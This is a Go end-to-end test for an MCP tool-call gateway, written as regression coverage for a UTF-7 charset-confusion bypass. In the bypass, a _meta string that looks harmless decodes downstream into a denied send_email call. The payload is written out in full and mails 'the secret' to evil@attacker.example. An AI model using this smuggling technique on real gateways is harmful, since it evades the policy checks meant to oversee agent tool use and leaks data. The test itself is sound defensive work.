package e2e

import (
	"encoding/base64"
	"io"
	"net/http"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/sluicehq/sluice/gateway"
	"github.com/sluicehq/sluice/intercept"
)

// utf7 is s in UTF-7 with every character base64-encoded (RFC 2152): only
// letters, digits, '+', '/' and '-', which a JSON string holds as they
// are.
func utf7(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u>>8), byte(u))
	}
	return "+" + strings.TrimRight(base64.StdEncoding.EncodeToString(b), "=") + "-"
}

// TestAttackCharsetDecodedOtherwise (found by an attacker review): the
// gateway decides on a body it reads as UTF-8 and passed the client's
// Content-Type on with it. A server built as the TypeScript SDK documents
// it (createMcpExpressApp: express.json()) decodes the body in the charset
// the Content-Type names, and body-parser takes any "utf-*" iconv-lite
// knows, UTF-7 among them. In UTF-7 a string of letters and digits that
// the gateway reads as a harmless _meta value is quotes and braces: the
// server read a second name, send_email, that the policy denies, and sent
// the mail. The gateway sends what it decided on as what it is, UTF-8 JSON.
func TestAttackCharsetDecodedOtherwise(t *testing.T) {
	requireNode(t)
	up := startAnnounced(t, "SLUICE_E2E_READY ", "node", "express-server.mjs")
	gw := startGateway(t, &intercept.StaticDecider{Allow: []string{"echo"}, Deny: []string{"send_email"}, Mode: intercept.ModeToolResult},
		gateway.Upstream{Name: "mail", URL: up})

	post := func(contentType, body string) (int, string) {
		t.Helper()
		req, _ := http.NewRequest(http.MethodPost, gw+"/mcp/mail", strings.NewReader(body))
		req.Header.Set("Content-Type", contentType)
		req.Header.Set("Accept", "application/json, text/event-stream")
		req.Header.Set("Mcp-Protocol-Version", "2025-06-18")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	// Legitimate clients: with or without a charset.
	for _, ct := range []string{"application/json", "application/json; charset=utf-8"} {
		if status, body := post(ct, `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"echo","arguments":{"message":"hé"}}}`); status != 200 || !strings.Contains(body, "Echo: hé") {
			t.Fatalf("echo with %q: %d %s", ct, status, body)
		}
	}
	if _, body := post("application/json", `{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"send_email","arguments":{"to":"a@b","body":"x"}}}`); !strings.Contains(body, `"status":"denied"`) {
		t.Fatalf("send_email was not denied: %s", body)
	}

	// To the gateway: an allowed echo whose _meta holds one string. In
	// UTF-7 that string closes itself and adds members, the last of each
	// name winning in JSON.parse.
	hidden := `"},"name":"send_email","arguments":{"to":"evil@attacker.example","body":"the secret"},"_meta":{"y":"`
	for i, ct := range []string{"application/json; charset=utf-7", "application/json;charset=UTF-7", `application/json; charset="utf-7"`} {
		body := `{"jsonrpc":"2.0","id":` + string(rune('3'+i)) + `,"method":"tools/call","params":{"name":"echo","arguments":{"message":"hi"},"_meta":{"x":"` + utf7(hidden) + `"}}}`
		status, got := post(ct, body)
		if strings.Contains(got, "sent to") {
			t.Errorf("%s: the server sent the mail policy denies: %d %s", ct, status, got)
		} else if status != 200 || !strings.Contains(got, "Echo: hi") {
			t.Logf("%s: %d %s", ct, status, got)
		}
	}
}
